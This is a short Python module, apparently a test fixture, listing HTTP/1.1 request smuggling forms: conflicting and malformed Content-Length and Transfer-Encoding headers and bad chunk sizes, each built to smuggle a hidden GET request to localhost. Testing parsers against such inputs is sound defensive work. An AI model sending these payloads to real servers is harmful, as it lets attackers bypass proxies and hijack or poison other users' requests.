"""Forms of request smuggling: what two readers of HTTP/1.1 may read differently. RFC 9112, sections 3, 6, 7 and 11."""

_END = b"0\r\n\r\n"
_HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"
_LENGTHS = (
    (b"Content-Length: 5", b"Transfer-Encoding: chunked"),
    (b"Transfer-Encoding: chunked", b"Content-Length: 5"),
    (b"Content-Length: 5", b"Content-Length: 6"),
    (b"Content-Length: 5, 6",),
    (b"Content-Length: +5",),
    (b"Content-Length: -5",),
    (b"Content-Length: 0x5",),
    (b"Content-Length: 5 5",),
    (b"Content-Length : 5",),
    (b"Content-Length: 99999999999999999999999",),
    (b"Content-Length:\x0b5",),
    (b"Content-Length: 5\x00",),
    (b"Transfer-Encoding: xchunked",),
    (b"Transfer-Encoding: chunked, identity",),
    (b"Transfer-Encoding: identity, chunked", b"Content-Length: 5"),
    (b"Transfer-Encoding : chunked",),
    (b"Transfer-Encoding:\x0bchunked",),
    (b" Transfer-Encoding: chunked",),
    (b"X: y\nTransfer-Encoding: chunked",),
    (b"X: y\rTransfer-Encoding: chunked",),
    (b"Transfer-Encoding: chunked", b"Transfer-Encoding: cow"),
    (b"Transfer\x00-Encoding: chunked",),
)
_CHUNKS = (
    b"5;a=\n" + _HIDDEN,
    b"0x5\r\n" + _END,
    b"-1\r\n" + _END,
    b"ffffffffffffffff1\r\n" + _END,
    b"5\nabcde\n" + _END,
)
_START = b"POST /v1/reservations HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"

FORMS = (
    *(_START + b"\r\n".join(fields) + b"\r\n\r\n" + _END + _HIDDEN for fields in _LENGTHS),
    *(_START + b"Transfer-Encoding: chunked\r\n\r\n" + chunk + _HIDDEN for chunk in _CHUNKS),
)
